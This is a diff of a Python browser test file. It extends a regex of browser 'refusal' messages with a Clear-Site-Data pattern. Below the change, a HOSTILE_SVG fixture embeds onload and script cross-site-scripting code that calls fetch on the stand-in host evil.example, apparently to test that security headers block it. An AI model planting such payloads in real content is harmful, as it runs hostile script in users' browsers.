@@ -31,9 +31,9 @@ SIZES = {"desk": (1280, 800), "phone": (360, 740)}
 AT_EVERY_SIZE = pytest.mark.parametrize("size", SIZES)
 REFUSALS = re.compile(
     r"status of 4|^Blocked script execution|violates the following Content Security Policy"
-    r"|^Service Worker registration blocked"
+    r"|^Service Worker registration blocked|^Clear-Site-Data header on .* Cleared"
 )
-"""What a browser says when it does not run or load something: our 4xx pages, what our headers and a test forbid."""
+"""What a browser says when it does not run or load something: our 4xx pages, what our headers and a test forbid; and what it cleared."""
 
 HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64"
  height="64" onload="alert(1)"><script>alert(2);fetch("http://evil.example/")</script>
